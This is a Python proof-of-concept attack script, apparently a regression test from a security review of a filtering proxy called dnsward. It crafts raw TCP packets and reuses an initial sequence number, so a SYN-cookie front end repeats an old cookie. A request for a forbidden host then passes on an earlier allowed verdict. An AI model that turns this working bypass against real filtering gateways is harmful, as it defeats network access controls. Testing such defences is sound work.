"""The tenth review's attack on the first-flight guard (a guest's root in host mode, or
CAP_NET_RAW in-guest): dnsward keeps a decided connection's state a moment (late packets),
and a new handshake whose SYN-ACK repeats the old one's numbers was taken for the old one's
sent again, so its flight passed on the old verdict.

  1. a raw SYN, ISN X: the front end, in SYN-cookie mode, answers with cookie C;
  2. REQ1 naming GOOD at X + 1: judged, allowed, confirmed, answered;
  3. a raw reset ends it (the server's socket goes; the entry is marked closed);
  4. a raw SYN with the same ISN X: conntrack opens a new entry (guarded, not closed), and the
     front end answers with the same cookie C;
  5. REQ2 naming EVIL at X + 1 acknowledging C + 1: the front end opens a connection from the
     cookie and reads it, unless the guard judges it.
Prints the answer's last line, or `error ...`.

usage: cookie_linger_attack.py SRC DST GOOD EVIL   (as root on port 80; the caller drops this
host's own RSTs to DST unless they carry the mark 0x77)"""
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawtcp import ACK, FIN, PSH, RST, Raw, answer, tries  # noqa: E402

src, dst, good, evil = sys.argv[1:5]
t = Raw(src, dst, 80, random.randint(42000, 60000))
REQ1 = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % good).encode()
REQ2 = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()


def attack():
    """One try: the answer's last line or `error ...`; None if the cookie changed between the
    two SYNs (Linux's cookies count minutes: a minute's turn between them)."""
    t.sport = random.randint(42000, 60000)
    X = random.randint(1 << 20, 1 << 31)
    C = t.synack(X)  # 1
    if C is None:
        return "error no SYN-ACK"
    t.send(X + 1, C + 1, ACK | PSH, REQ1)  # 2
    got = t.until(lambda p: b"hello" in p["data"])
    if not got or b"hello %s" % good.encode() not in got[-1]["data"]:
        return "error REQ1 not answered"
    t.send(X + 1 + len(REQ1), 0, RST)  # 3
    C2 = t.synack(X)  # 4
    if C2 is None:
        return "error no second SYN-ACK"
    if C2 != C:
        return None
    t.send(X + 1, C + 1, ACK | PSH, REQ2)  # 5
    got = t.until(lambda p: p["flags"] & (FIN | RST) or b"hello" in p["data"])
    return answer(got)


print(tries(attack))
